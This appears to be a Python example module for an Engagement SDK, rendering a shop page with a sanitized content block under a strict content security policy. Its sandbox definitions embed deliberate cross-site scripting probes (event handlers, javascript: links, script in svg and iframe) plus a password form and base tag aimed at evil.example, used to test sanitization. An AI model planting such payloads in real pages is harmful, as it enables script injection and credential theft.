"""
What both web examples share: a page of a shop that shows a content block, and the definitions of the sandbox.

The HTML of the content block comes from Engagement, and thus from everyone who may edit campaigns there. It is safe to
embed, because the SDK returns only what its sanitizer has written. The content security policy of the page is a second
line of defence: no script runs except the file of the page itself.
"""

from collections import OrderedDict
from collections.abc import Mapping
from html import escape
from typing import Any

from exponea_async import ActionType, InAppContentBlock

PLACEHOLDER = "home_top"

HEADERS = {
    "Content-Security-Policy": (
        "default-src 'none'; script-src 'self'; connect-src 'self'; style-src 'unsafe-inline'; img-src https: data:; "
        "base-uri 'none'; form-action 'none'; frame-ancestors 'none'"
    ),
    "X-Content-Type-Options": "nosniff",
}

#: Sends each click in the content block to the server, and opens the link that the server returns.
SCRIPT = """
document.addEventListener("click", async (event) => {
  const link = event.target.closest("[data-block] a[href]");
  if (!link) return;
  event.preventDefault();
  const block = link.closest("[data-block]");
  const click = { block: block.dataset.block, url: link.getAttribute("href") };
  const response = await fetch("/click" + location.search, { method: "POST", body: JSON.stringify(click) });
  const { open, closed } = await response.json();
  if (closed) block.remove();
  if (open && /^https?:/.test(open)) location.assign(open);
});
"""

_PAGE = """<!doctype html>
<html lang="en">
<head><meta charset="utf-8"><title>Shop</title><script src="/page.js" defer></script></head>
<body>
<h1>Hello, {customer}</h1>
{block}
<p>Mugs, plates, bowls.</p>
</body>
</html>
"""


def render(customer: str, block: InAppContentBlock | None) -> str:
    """
    Return the HTML of the page.

    Args:
        customer: The customer. This string comes from the visitor, so it is escaped.
        block: The content block, or None. Its HTML is already safe, so it is embedded as it is.
    """
    section = ""
    if block is not None and block.html is not None:
        section = f'<section data-block="{escape(block.id)}">{block.html}</section>'
    return _PAGE.format(customer=escape(customer), block=section)


def closes(block: InAppContentBlock, url: str) -> bool:
    """Return whether a link of a content block closes it."""
    return any(action.type == ActionType.CLOSE and action.url == url for action in block.actions)


class ShownBlocks:
    """The latest 1,000 content blocks that were shown. An application would store them in the session of the user."""

    def __init__(self) -> None:
        self._blocks: OrderedDict[tuple[str, str], InAppContentBlock] = OrderedDict()

    def add(self, customer: str, block: InAppContentBlock) -> None:
        """Add a content block that was shown to a customer."""
        self._blocks[customer, block.id] = block
        if len(self._blocks) > 1000:
            self._blocks.popitem(last=False)

    def get(self, customer: str, block_id: str) -> InAppContentBlock | None:
        """Return a content block that was shown to a customer, or None."""
        return self._blocks.get((customer, block_id))


#: The definitions of the sandbox: a greeting for all customers, whose HTML contains all kinds of attacks.
DEFINITIONS: Mapping[str, Any] = {
    "content_blocks": [
        {
            "id": "greeting",
            "name": "Greeting",
            "placeholders": [PLACEHOLDER],
            # A customer tracker stores nothing between calls, so it treats every frequency as "always".
            "frequency": "always",
            "personal": {
                "status": "OK",
                "ttl_seconds": 60,
                "variant_id": 0,
                "variant_name": "A",
                "content_type": "html",
                "content": {
                    "html": """
                        <style>.offer { background: #fee; padding: 1em } </style>
                        <div class="offer" onclick="alert('handler')">
                          <b>Spring sale</b> <a href="https://shop.example/sale">Look at it</a>
                          <a href="javascript:alert('link')">free money</a>
                          <img src="x" onerror="alert('image')">
                          <span data-actiontype="close">Not now</span>
                        </div>
                        <script>alert("script")</script>
                        <iframe srcdoc="&lt;script&gt;alert('frame')&lt;/script&gt;"></iframe>
                        <svg><script>alert("svg")</script></svg>
                        <form action="https://evil.example"><input name="password"></form>
                        <base href="https://evil.example/">
                    """
                },
            },
        }
    ]
}
